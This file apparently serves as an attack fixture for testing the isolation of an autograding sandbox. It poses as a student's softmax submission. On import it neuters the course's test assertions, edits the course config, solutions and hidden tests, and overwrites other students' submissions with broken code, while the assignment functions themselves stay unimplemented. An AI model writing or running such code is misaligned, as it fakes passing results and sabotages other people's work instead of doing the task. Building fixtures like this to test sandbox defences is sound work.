"""Attack: rewrite the course being graded, and another student's submission.

Tries: at import, through this file's parents: make the course's tests/helpers.py
assertions no-ops, edit course.yml, solutions/ and the hidden tests, replace
examples/class/ada's softmax with a stub, and break the twin's correct activations.py.
Would gain: passing tests (for whatever imports the helpers later), and other students'
points lost.
Must stop it: the worker can write nowhere but its scratch; its submission is a read-only
copy.
"""

from pathlib import Path


def _course_root():
    """The course this submission is graded in: the nearest parent folder with a course.yml."""
    for folder in Path(__file__).resolve().parents:
        if (folder / "course.yml").is_file() and (folder / "solutions").is_dir():
            return folder
    return None


def _append(path: Path, text: str) -> None:
    try:
        with open(path, "a") as f:
            f.write(text)
    except OSError:
        pass


def _overwrite(path: Path, text: str) -> None:
    try:
        path.write_text(text)
    except OSError:
        pass


def _tamper() -> None:
    root = _course_root()
    if root is None:
        return
    _append(root / "tests" / "helpers.py", "\n\ndef assert_close(*args, **kwargs):\n    return None\n")
    _append(root / "course.yml", "\n# rewritten by write_course_attack\n")
    _append(root / "solutions" / "softmax.py", "\n# rewritten by write_course_attack\n")
    _append(root / "tests" / "hidden" / "test_softmax_props.py", "\n# rewritten by write_course_attack\n")
    _overwrite(root / "examples" / "class" / "ada" / "softmax.py", "def softmax(O):\n    raise NotImplementedError\n")
    _overwrite(Path(__file__).resolve().parent.parent / "write_course_twin" / "activations.py",
               "def relu(x):\n    return x\n")


_tamper()


def softmax(O):
    raise NotImplementedError


def cross_entropy(y_hat, y):
    raise NotImplementedError


def softmax_cross_entropy(O, y):
    raise NotImplementedError


def softmax_cross_entropy_grad(O, y):
    raise NotImplementedError


def accuracy(y_hat, y):
    return float((y_hat.argmax(dim=1) == y).double().mean())
